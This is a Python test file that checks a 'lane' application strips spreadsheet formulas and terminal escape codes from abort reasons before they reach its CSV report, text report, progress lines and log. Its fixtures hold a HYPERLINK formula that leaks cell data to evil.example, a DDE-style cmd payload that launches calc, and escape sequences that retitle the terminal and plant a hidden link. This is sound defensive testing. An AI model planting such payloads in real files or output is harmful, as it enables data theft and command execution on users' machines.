"""What the lane writes out, fed hostile text: an abort reason that is a spreadsheet formula or carries terminal
escape codes reaches the report CSV as text and the terminal report, the progress lines and the log without
its escape codes."""

from __future__ import annotations

import csv
import io
import logging
import sqlite3
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from lane.cli import main
from lane.events import EventKind, LaneEvent
from lane.progress import Progress
from lane.report import query, render_csv, render_text
from lane.sanitize import TerminalFormatter
from tests.conftest import ROOT
from tests.lane.test_report import CONFIG, PERIOD, make_log

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
ESCAPES = "gate \x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil/\x1b\\stuck\x9b31m"
ACTS = ("\x1b", "\x07", "\x9b")


def _report(tmp_path: Path) -> Any:
    db = make_log(tmp_path / "log.db")
    con = sqlite3.connect(db)
    with con:
        con.execute("UPDATE cycles SET reason = ? WHERE id = 4", [FORMULA])
        con.execute("UPDATE cycles SET reason = ?, plate = ? WHERE id = 6", [ESCAPES, "@SUM(1+1)*cmd|' /C calc'!A0"])
    con.close()
    con = query.connect(db)
    try:
        return query.build(con, CONFIG, PERIOD, slowest=10)
    finally:
        con.close()


def test_the_csv_report_holds_no_live_formula(tmp_path: Path) -> None:
    out = io.StringIO()
    render_csv.write(_report(tmp_path), out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'" + FORMULA in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
    assert not any(a in out.getvalue() for a in ACTS)


def test_the_text_report_carries_no_escape_codes(tmp_path: Path) -> None:
    out = io.StringIO()
    render_text.render(_report(tmp_path), out, width=400)
    text = out.getvalue()
    assert not any(a in text for a in ACTS)
    assert "│ gate stuck " in text  # the reason, its escape sequences gone whole


def test_progress_lines_carry_no_escape_codes() -> None:
    lane = SimpleNamespace(
        listeners=[],
        ctx={"plate": "G 1\x1b[8m AB"},
        clock=SimpleNamespace(wall=lambda: datetime(2026, 3, 2, tzinfo=UTC)),
    )
    out = io.StringIO()
    Progress({"L1": lane}, "Asia/Jakarta", out, "plain")  # type: ignore[dict-item]
    data = {
        "cycle": 6,
        "source": "fault",
        "dest": "rejected",
        "trigger": "abort",
        "actor": "op\x1b[1m",
        "reason": ESCAPES,
    }
    lane.listeners[0](LaneEvent("L1", EventKind.TRANSITION, "fault", 6, 0.0, data))
    lane.listeners[0](
        LaneEvent("L1", EventKind.ALERT, "fault", 6, 0.0, {"code": "printer", "text": "jam\x1b]0;x\x07\nfake line"})
    )
    lines = out.getvalue().splitlines()
    assert len(lines) == 2 and not any(a in out.getvalue() for a in ACTS)
    assert lines[0].endswith("(abort by op) G 1 AB gate stuck") and lines[1].endswith("! printer: jam fake line")


def test_every_command_guards_the_log(capsys: Any) -> None:
    root = logging.getLogger()
    saved = [(h, h.formatter) for h in root.handlers]
    try:
        assert main(["--config", str(ROOT / "config" / "site.toml"), "check-config"]) == 0
        assert root.handlers and all(isinstance(h.formatter, TerminalFormatter) for h in root.handlers)
    finally:
        for handler, formatter in saved:
            handler.setFormatter(formatter)
